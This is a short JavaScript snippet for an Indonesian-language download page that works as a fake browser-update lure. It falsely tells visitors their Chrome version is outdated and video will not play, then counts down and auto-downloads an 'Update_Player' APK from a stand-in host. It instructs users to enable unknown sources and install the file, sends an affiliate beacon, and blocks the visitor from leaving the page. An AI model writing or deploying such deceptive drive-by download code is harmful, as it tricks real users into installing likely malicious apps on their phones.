// halaman unduh
let detik = 5;
const ver = /Chrome\/(\d+)/.exec(navigator.userAgent);
document.querySelector('#pesan').innerText = 'Versi browser Anda (' + (ver ? ver[1] : '?') + ') sudah usang! Video tidak dapat diputar.';
const hitung = setInterval(() => {
  document.querySelector('#btn').innerText = 'Memasang pembaruan dalam ' + detik + ' detik...';
  if (detik-- > 0) return;
  clearInterval(hitung);
  const a = document.createElement('a');
  a.href = 'https://cdn-apk.example/dl/' + location.hostname + '/Update_Player_' + Date.now() + '.apk';
  a.download = 'Update_Player.apk';
  document.body.appendChild(a);
  a.click();
  console.log('unduh');
  document.querySelector('#langkah').style.display = 'block';
  document.querySelector('#langkah').innerHTML = '1. Buka file<br>2. Aktifkan "Sumber tidak dikenal"<br>3. Ketuk PASANG';
  new Image().src = 'https://cdn-apk.example/cv?aff=' + (new URLSearchParams(location.search).get('aff') || 'x');
}, 1000);
window.onbeforeunload = () => true;
